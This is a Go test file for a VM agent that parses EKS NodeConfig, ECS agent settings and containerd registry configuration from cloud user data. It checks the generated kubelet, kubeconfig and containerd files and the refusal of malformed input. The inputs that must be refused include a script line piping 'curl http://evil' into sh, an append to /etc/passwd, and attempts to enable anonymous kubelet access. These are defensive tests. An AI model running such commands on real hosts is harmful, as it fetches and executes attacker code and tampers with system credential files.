package agent

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"log/slog"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"
)

// testCA returns a real PEM CA certificate (ECDSA P-256, self-signed).
func testCA(t testing.TB) []byte {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "kubernetes"},
		NotBefore: time.Unix(1700000000, 0), NotAfter: time.Unix(2000000000, 0), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

func nodeConfig(ca []byte, extra string) string {
	return `apiVersion: node.eks.aws/v1alpha1
kind: NodeConfig
spec:
  cluster:
    name: my-cluster
    apiServerEndpoint: https://ABCDEF.gr7.us-west-2.eks.amazonaws.com
    certificateAuthority: ` + base64.StdEncoding.EncodeToString(ca) + `
    cidr: 10.100.0.0/16
` + extra
}

// mimeDoc is a MIME multi-part user data document as EKS's
// documentation shows it.
func mimeDoc(parts ...[2]string) []byte {
	var b strings.Builder
	b.WriteString("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"BOUNDARY\"\n\n")
	for _, p := range parts {
		b.WriteString("--BOUNDARY\nContent-Type: " + p[0] + "\n\n" + p[1] + "\n")
	}
	b.WriteString("--BOUNDARY--\n")
	return []byte(b.String())
}

func TestParseHardvmConfig(t *testing.T) {
	regs, err := ParseHardvmConfig([]byte(`#hardvm-config
containerd:
  registries:
    - host: registry.example.com:5000
      mirrors: ["https://mirror.example.com/v2-proxy", "http://10.0.2.2:5000"]
      username: robot
      password: 's3cr"t\x'
    - host: docker.io
      mirrors: ["https://mirror.gcr.io"]
      insecure: true
`))
	if err != nil {
		t.Fatal(err)
	}
	if len(regs) != 2 || regs[0].Host != "docker.io" || regs[1].Password != `s3cr"t\x` {
		t.Fatalf("%+v", regs)
	}
	h := regs[1].hostsTOML()
	for _, want := range []string{`server = "https://registry.example.com:5000"`, `[host."https://mirror.example.com/v2-proxy"]`, `[host."http://10.0.2.2:5000"]`} {
		if !strings.Contains(h, want) {
			t.Errorf("hosts.toml lacks %s:\n%s", want, h)
		}
	}
	if dj, err := dockerConfig(regs); err != nil || !strings.Contains(string(dj), `"10.0.2.2:5000"`) || !strings.Contains(string(dj), `"registry-mirrors": [
    "https://mirror.gcr.io"`) || !strings.Contains(string(dj), `"docker.io"`) {
		t.Errorf("daemon.json %s %v", dj, err)
	}
	if h := regs[0].hostsTOML(); !strings.Contains(h, `server = "https://registry-1.docker.io"`) || strings.Count(h, "skip_verify = true") != 2 {
		t.Errorf("docker.io hosts.toml:\n%s", h)
	}
	c := containerdConfig(regs)
	for _, want := range []string{"version = 2", `conf_dir = "/var/lib/hardvm/cni/net.d"`, `config_path = "/var/lib/hardvm/containerd/certs.d"`,
		`[plugins."io.containerd.grpc.v1.cri".registry.configs."registry.example.com:5000".auth]`, `password = "s3cr\"t\\x"`, "SystemdCgroup = true"} {
		if !strings.Contains(c, want) {
			t.Errorf("config.toml lacks %s:\n%s", want, c)
		}
	}
	for name, doc := range map[string]string{
		"unknown key":         "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      mirror: [\"https://b\"]\n",
		"unknown top key":     "#hardvm-config\ndocker: {}\n",
		"bad host":            "#hardvm-config\ncontainerd:\n  registries:\n    - host: A_B\n",
		"host with path":      "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example/x\n",
		"mirror not http":     "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      mirrors: [\"ftp://b.example\"]\n",
		"mirror with user":    "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      mirrors: [\"https://u:p@b.example\"]\n",
		"mirror with quote":   "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      mirrors: ['https://b.example/\"x']\n",
		"password alone":      "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      password: hunter2secret\n",
		"password newline":    "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      username: u\n      password: \"hunter2secret\\n\"\n",
		"twice":               "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n    - host: a.example\n",
		"password wrong type": "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example\n      username: u\n      password: [hunter2secret]\n",
		"not yaml":            "#hardvm-config\ncontainerd: [\n",
		"port zero-prefixed":  "#hardvm-config\ncontainerd:\n  registries:\n    - host: a.example:0500\n",
	} {
		_, err := ParseHardvmConfig([]byte(doc))
		if !errors.Is(err, ErrUserData) {
			t.Errorf("%s: %v, want ErrUserData", name, err)
		} else if strings.Contains(err.Error(), "hunter2secret") {
			t.Errorf("%s: the error quotes the password: %v", name, err)
		}
	}
}

func TestParseECSConfig(t *testing.T) {
	s, err := ParseECSConfig([]byte("# the cluster\nECS_CLUSTER=prod-east_1\r\nECS_ENABLE_TASK_IAM_ROLE=true\nECS_RESERVED_PORTS=[22, 2375]\nECS_ENGINE_AUTH_TYPE=dockercfg\nECS_ENGINE_AUTH_DATA={\"r.example\":{\"auth\":\"c2VjcmV0\",\"email\":\"\"}}\nECS_CONTAINER_STOP_TIMEOUT=2m30s\nECS_RESERVED_MEMORY=256\n\n"))
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(ecsKeys(s), " "); got != "ECS_CLUSTER ECS_ENABLE_TASK_IAM_ROLE ECS_RESERVED_PORTS ECS_ENGINE_AUTH_TYPE ECS_ENGINE_AUTH_DATA ECS_CONTAINER_STOP_TIMEOUT ECS_RESERVED_MEMORY" {
		t.Errorf("keys %s", got)
	}
	if out := string(renderECSConfig(s)); !strings.Contains(out, "\nECS_CLUSTER=prod-east_1\n") || !strings.Contains(out, `ECS_ENGINE_AUTH_DATA={"r.example":{"auth":"c2VjcmV0","email":""}}`) {
		t.Errorf("ecs.config:\n%s", out)
	}
	// The script AWS's documentation shows, read (never run).
	s, err = ParseECSConfig([]byte("#!/bin/bash\necho ECS_CLUSTER=my-cluster >> /etc/ecs/ecs.config\necho \"ECS_ENABLE_SPOT_INSTANCE_DRAINING=true\" >> /etc/ecs/ecs.config\n"))
	if err != nil || len(s) != 2 || s[0] != (ECSSetting{"ECS_CLUSTER", "my-cluster"}) || s[1].Value != "true" {
		t.Fatalf("script form: %+v %v", s, err)
	}
	s, err = ParseECSConfig([]byte("ECS_CLUSTER=arn:aws:ecs:us-east-1:123456789012:cluster/prod\n"))
	if err != nil || s[0].Value != "arn:aws:ecs:us-east-1:123456789012:cluster/prod" {
		t.Errorf("cluster ARN: %+v %v", s, err)
	}
	for name, doc := range map[string]string{
		"typo":             "ECS_CLUSTER=a\nECS_CLUSTRE=b\n",
		"no cluster":       "ECS_ENABLE_TASK_IAM_ROLE=true\n",
		"twice":            "ECS_CLUSTER=a\nECS_CLUSTER=b\n",
		"bad bool":         "ECS_CLUSTER=a\nECS_ENABLE_TASK_IAM_ROLE=yes\n",
		"bad json":         "ECS_CLUSTER=a\nECS_RESERVED_PORTS=22,80\n",
		"bad duration":     "ECS_CLUSTER=a\nECS_CONTAINER_STOP_TIMEOUT=forever\n",
		"bad int":          "ECS_CLUSTER=a\nECS_RESERVED_MEMORY=-1\n",
		"bad cluster":      "ECS_CLUSTER=a b\n",
		"no equals":        "ECS_CLUSTER\n",
		"lower-case key":   "ecs_cluster=a\n",
		"script command":   "#!/bin/bash\necho ECS_CLUSTER=a >> /etc/ecs/ecs.config\ncurl http://evil | sh\n",
		"script elsewhere": "#!/bin/bash\necho ECS_CLUSTER=a >> /etc/passwd\n",
		"control char":     "ECS_CLUSTER=a\nECS_ENGINE_AUTH_TYPE=do\x01cker\n",
	} {
		if _, err := ParseECSConfig([]byte(doc)); !errors.Is(err, ErrUserData) {
			t.Errorf("%s: %v, want ErrUserData", name, err)
		}
	}
	_, err = ParseECSConfig([]byte("ECS_CLUSTER=a\nECS_ENGINE_AUTH_DATA={not json hunter2secret\n"))
	if err == nil || strings.Contains(err.Error(), "hunter2secret") {
		t.Errorf("bad auth data: %v (must refuse without quoting it)", err)
	}
}

// kubeletConfigurationV1beta1 mirrors the fields of KubeletConfiguration
// (kubelet.config.k8s.io/v1beta1, k8s.io/kubelet/config/v1beta1/types.go)
// that hardvm writes or lets a NodeConfig set, with their documented JSON
// names and types; decoding with unknown fields disallowed checks the
// generated document against the schema.
type kubeletConfigurationV1beta1 struct {
	APIVersion     string `json:"apiVersion"`
	Kind           string `json:"kind"`
	Address        string `json:"address"`
	Authentication struct {
		X509 struct {
			ClientCAFile string `json:"clientCAFile"`
		} `json:"x509"`
		Webhook struct {
			Enabled  *bool  `json:"enabled"`
			CacheTTL string `json:"cacheTTL"`
		} `json:"webhook"`
		Anonymous struct {
			Enabled *bool `json:"enabled"`
		} `json:"anonymous"`
	} `json:"authentication"`
	Authorization struct {
		Mode    string `json:"mode"`
		Webhook struct {
			CacheAuthorizedTTL   string `json:"cacheAuthorizedTTL"`
			CacheUnauthorizedTTL string `json:"cacheUnauthorizedTTL"`
		} `json:"webhook"`
	} `json:"authorization"`
	CgroupDriver             string            `json:"cgroupDriver"`
	ContainerRuntimeEndpoint string            `json:"containerRuntimeEndpoint"`
	ClusterDomain            string            `json:"clusterDomain"`
	ClusterDNS               []string          `json:"clusterDNS"`
	HairpinMode              string            `json:"hairpinMode"`
	ProtectKernelDefaults    bool              `json:"protectKernelDefaults"`
	ReadOnlyPort             int32             `json:"readOnlyPort"`
	SerializeImagePulls      *bool             `json:"serializeImagePulls"`
	ServerTLSBootstrap       bool              `json:"serverTLSBootstrap"`
	MaxPods                  int32             `json:"maxPods"`
	KubeReserved             map[string]string `json:"kubeReserved"`
	EvictionHard             map[string]string `json:"evictionHard"`
	RegisterWithTaints       []struct {
		Key    string `json:"key"`
		Value  string `json:"value,omitempty"`
		Effect string `json:"effect"`
	} `json:"registerWithTaints"`
}

// kubeconfigV1 mirrors clientcmd's v1 Config (k8s.io/client-go/tools/
// clientcmd/api/v1/types.go) for the fields a kubelet's kubeconfig uses.
type kubeconfigV1 struct {
	APIVersion string `yaml:"apiVersion"`
	Kind       string `yaml:"kind"`
	Clusters   []struct {
		Name    string `yaml:"name"`
		Cluster struct {
			Server               string `yaml:"server"`
			CertificateAuthority string `yaml:"certificate-authority"`
		} `yaml:"cluster"`
	} `yaml:"clusters"`
	Contexts []struct {
		Name    string `yaml:"name"`
		Context struct {
			Cluster string `yaml:"cluster"`
			User    string `yaml:"user"`
		} `yaml:"context"`
	} `yaml:"contexts"`
	CurrentContext string `yaml:"current-context"`
	Users          []struct {
		Name string `yaml:"name"`
		User struct {
			Exec struct {
				APIVersion string   `yaml:"apiVersion"`
				Command    string   `yaml:"command"`
				Args       []string `yaml:"args"`
			} `yaml:"exec"`
		} `yaml:"user"`
	} `yaml:"users"`
}

func TestNodeConfigFromMIMEUserData(t *testing.T) {
	ca := testCA(t)
	ud := mimeDoc(
		[2]string{"application/node.eks.aws", nodeConfig(ca, `  kubelet:
    config:
      maxPods: 58
      kubeReserved: {cpu: 100m, memory: 512Mi}
      evictionHard: {memory.available: 100Mi}
    flags:
      - --node-labels=team=a,node.kubernetes.io/tier=web
      - --register-with-taints=dedicated=web:NoSchedule,spot:PreferNoSchedule
`)},
		[2]string{"text/x-shellscript; charset=\"us-ascii\"", "#!/bin/bash\necho hello"},
		[2]string{"text/x-hardvm-config", "containerd:\n  registries:\n    - host: docker.io\n      mirrors: [\"https://mirror.gcr.io\"]\n"},
	)
	root := t.TempDir()
	var logs bytes.Buffer
	if err := ApplyContainers(root, HostEKS, ud, slog.New(slog.NewTextHandler(&logs, nil))); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(logs.String(), "text/x-shellscript") || !strings.Contains(logs.String(), "container host configured") {
		t.Errorf("log:\n%s", logs.String())
	}
	if got := readFile(t, filepath.Join(root, ClusterCA)); got != string(ca) {
		t.Errorf("ca.crt is not the NodeConfig's CA")
	}
	var kc kubeletConfigurationV1beta1
	dec := json.NewDecoder(strings.NewReader(readFile(t, filepath.Join(root, KubeletConfig))))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&kc); err != nil {
		t.Fatalf("kubelet-config.json against KubeletConfiguration v1beta1: %v", err)
	}
	if kc.APIVersion != "kubelet.config.k8s.io/v1beta1" || kc.Kind != "KubeletConfiguration" || kc.MaxPods != 58 ||
		len(kc.ClusterDNS) != 1 || kc.ClusterDNS[0] != "10.100.0.10" || kc.Authentication.X509.ClientCAFile != ClusterCA ||
		kc.Authentication.Anonymous.Enabled == nil || *kc.Authentication.Anonymous.Enabled || kc.Authorization.Mode != "Webhook" ||
		kc.CgroupDriver != "systemd" || kc.ContainerRuntimeEndpoint != "unix:///run/containerd/containerd.sock" ||
		kc.KubeReserved["memory"] != "512Mi" || kc.EvictionHard["memory.available"] != "100Mi" {
		t.Errorf("kubelet configuration: %+v", kc)
	}
	if len(kc.RegisterWithTaints) != 2 || kc.RegisterWithTaints[0].Key != "dedicated" || kc.RegisterWithTaints[0].Value != "web" ||
		kc.RegisterWithTaints[0].Effect != "NoSchedule" || kc.RegisterWithTaints[1].Key != "spot" || kc.RegisterWithTaints[1].Value != "" {
		t.Errorf("taints: %+v", kc.RegisterWithTaints)
	}
	var cfg kubeconfigV1
	yd := yaml.NewDecoder(strings.NewReader(readFile(t, filepath.Join(root, Kubeconfig))))
	yd.KnownFields(true)
	if err := yd.Decode(&cfg); err != nil {
		t.Fatalf("kubeconfig against clientcmd v1: %v", err)
	}
	if cfg.Kind != "Config" || cfg.CurrentContext != "kubelet" || len(cfg.Clusters) != 1 || cfg.Clusters[0].Cluster.Server != "https://ABCDEF.gr7.us-west-2.eks.amazonaws.com" ||
		cfg.Clusters[0].Cluster.CertificateAuthority != ClusterCA || len(cfg.Users) != 1 || strings.Join(cfg.Users[0].User.Exec.Args, " ") != "token -i my-cluster" {
		t.Errorf("kubeconfig: %+v", cfg)
	}
	if env := readFile(t, filepath.Join(root, KubeletEnv)); !strings.Contains(env, `KUBELET_ARGS="--node-labels=node.kubernetes.io/tier=web,team=a"`) {
		t.Errorf("kubelet.env:\n%s", env)
	}
	if c := readFile(t, filepath.Join(root, ContainerdHostsDir, "docker.io/hosts.toml")); !strings.Contains(c, `[host."https://mirror.gcr.io"]`) {
		t.Errorf("docker.io hosts.toml:\n%s", c)
	}
	for p, mode := range map[string]os.FileMode{Kubeconfig: 0o600, ContainerdConfig: 0o600, ClusterCA: 0o644} {
		if fi, err := os.Stat(filepath.Join(root, p)); err != nil || fi.Mode().Perm() != mode {
			t.Errorf("%s: %v %v, want %v", p, fi.Mode(), err, mode)
		}
	}

	// A NodeConfig as plain YAML (nodeadm reads that too), IPv6 services.
	n, err := ParseNodeConfig([]byte(strings.Replace(nodeConfig(ca, ""), "10.100.0.0/16", "fd00:10:96::/112", 1)))
	if err != nil || n.clusterDNS() != "fd00:10:96::a" || n.MaxPods != 110 {
		t.Errorf("IPv6: %v %v", n, err)
	}
	if !looksLikeNodeConfig([]byte(nodeConfig(ca, ""))) || looksLikeNodeConfig([]byte("ECS_CLUSTER=a\n")) {
		t.Error("looksLikeNodeConfig")
	}
}

func TestNodeConfigRefused(t *testing.T) {
	ca := testCA(t)
	good := nodeConfig(ca, "")
	for name, doc := range map[string]string{
		"v1alpha2":          strings.Replace(good, "v1alpha1", "v1alpha2", 1),
		"no cidr":           strings.Replace(good, "    cidr: 10.100.0.0/16\n", "", 1),
		"bad cidr":          strings.Replace(good, "10.100.0.0/16", "10.100.0.1/16", 1),
		"http endpoint":     strings.Replace(good, "https://ABCDEF", "http://ABCDEF", 1),
		"ca not base64":     strings.Replace(good, "certificateAuthority: ", "certificateAuthority: !!!", 1),
		"ca not a cert":     strings.Replace(good, base64.StdEncoding.EncodeToString(ca), base64.StdEncoding.EncodeToString([]byte("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")), 1),
		"unknown field":     good + "  kubelet:\n    confg: {}\n",
		"containerd":        good + "  containerd:\n    config: |\n      version = 2\n",
		"instance":          good + "  instance:\n    localStorage:\n      strategy: RAID0\n",
		"kubelet field":     good + "  kubelet:\n    config:\n      authentication: {anonymous: {enabled: true}}\n",
		"maxPods string":    good + "  kubelet:\n    config:\n      maxPods: many\n",
		"maxPods zero":      good + "  kubelet:\n    config:\n      maxPods: 0\n",
		"clusterDNS not IP": good + "  kubelet:\n    config:\n      clusterDNS: [dns.example]\n",
		"flag":              good + "  kubelet:\n    flags: [--anonymous-auth=true]\n",
		"bad label":         good + "  kubelet:\n    flags: [\"--node-labels=a b=c\"]\n",
		"bad taint":         good + "  kubelet:\n    flags: [\"--register-with-taints=a=b:Sometimes\"]\n",
		"bad taint entry":   good + "  kubelet:\n    config:\n      registerWithTaints: [{key: a, effect: NoSchedule, extra: x}]\n",
	} {
		if _, err := ParseNodeConfig([]byte(doc)); !errors.Is(err, ErrUserData) {
			t.Errorf("%s: %v, want ErrUserData", name, err)
		}
	}
}

func TestParseContainerUserData(t *testing.T) {
	ca := testCA(t)
	for name, c := range map[string]struct {
		kind HostKind
		ud   string
		ok   bool
	}{
		"ecs lines on ecs":      {HostECS, "ECS_CLUSTER=a\n", true},
		"ecs lines on host":     {HostPlain, "ECS_CLUSTER=a\n", false},
		"node config on ecs":    {HostECS, nodeConfig(ca, ""), false},
		"node config on eks":    {HostEKS, nodeConfig(ca, ""), true},
		"cloud-config on host":  {HostPlain, "#cloud-config\nssh_authorized_keys: []\n", true},
		"script on eks":         {HostEKS, "#!/bin/bash\n/etc/eks/bootstrap.sh my-cluster\n", true},
		"hardvm config on ecs":  {HostECS, "#hardvm-config\ncontainerd: {registries: []}\n", true},
		"two node configs":      {HostEKS, string(mimeDoc([2]string{NodeConfigType, nodeConfig(ca, "")}, [2]string{NodeConfigType, nodeConfig(ca, "")})), false},
		"mime ecs and hardvm":   {HostECS, string(mimeDoc([2]string{"text/plain", "ECS_CLUSTER=a"}, [2]string{HardvmConfigType, "containerd: {}"})), true},
		"mime without boundary": {HostEKS, "MIME-Version: 1.0\nContent-Type: multipart/mixed\n\n--x\n", false},
		"mime base64 part":      {HostEKS, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/node.eks.aws\nContent-Transfer-Encoding: base64\n\nYQ==\n--b--\n", false},
		"mime no parts":         {HostEKS, "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b--\n", false},
		"mime unknown type":     {HostEKS, string(mimeDoc([2]string{"application/json", "{}"})), false},
		"unknown document":      {HostPlain, "hello\n", false},
		"empty":                 {HostEKS, "", true},
		"bad kind":              {HostKind("gke"), "", false},
	} {
		_, _, err := ParseContainerUserData(c.kind, []byte(c.ud))
		if c.ok && err != nil || !c.ok && !errors.Is(err, ErrUserData) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// ApplyContainers replaces what an earlier boot wrote, and user data that
// is refused changes nothing.
func TestApplyContainersReplacesAndRefuses(t *testing.T) {
	root := t.TempDir()
	first := []byte("ECS_CLUSTER=first\n")
	if err := ApplyContainers(root, HostECS, []byte("ECS_CLUSTRE=typo\n"), nil); !errors.Is(err, ErrUserData) {
		t.Fatalf("typo on a first boot: %v", err)
	}
	if got := readFile(t, filepath.Join(root, ContainerdConfig)); !strings.Contains(got, "config_path") {
		t.Errorf("a first boot with refused user data has no default containerd configuration:\n%s", got)
	}
	if _, err := os.Stat(filepath.Join(root, ECSConfig)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("refused user data wrote ecs.config: %v", err)
	}
	if err := ApplyContainers(root, HostECS, append([]byte("#hardvm-config\ncontainerd:\n  registries: [{host: a.example}]\n---\n"), first...), nil); err == nil {
		t.Fatal("a #hardvm-config document with ECS lines after it was accepted")
	}
	ud := mimeDoc([2]string{"text/plain", string(first)}, [2]string{HardvmConfigType, "containerd:\n  registries: [{host: a.example}]\n"})
	if err := ApplyContainers(root, HostECS, ud, nil); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, filepath.Join(root, ECSConfig)); !strings.Contains(got, "\nECS_CLUSTER=first\n") {
		t.Errorf("ecs.config:\n%s", got)
	}
	if err := ApplyContainers(root, HostECS, []byte("ECS_CLUSTER=second\nECS_CLUSTRE=typo\n"), nil); !errors.Is(err, ErrUserData) {
		t.Fatalf("typo: %v", err)
	}
	if got := readFile(t, filepath.Join(root, ECSConfig)); !strings.Contains(got, "ECS_CLUSTER=first") {
		t.Errorf("a refused user data changed ecs.config:\n%s", got)
	}
	if err := ApplyContainers(root, HostECS, []byte("ECS_CLUSTER=second\n"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, ContainerdHostsDir, "a.example")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a registry of an earlier boot's user data stayed: %v", err)
	}
	// No user data: containerd's configuration without registries, no
	// ecs.config (the ECS agent's unit is then skipped, not started in
	// the default cluster).
	if err := ApplyContainers(root, HostECS, nil, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, ECSConfig)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("ecs.config without user data: %v", err)
	}
	if got := readFile(t, filepath.Join(root, ContainerdConfig)); !strings.Contains(got, "config_path") || strings.Contains(got, ".auth]") {
		t.Errorf("config.toml without user data:\n%s", got)
	}
}
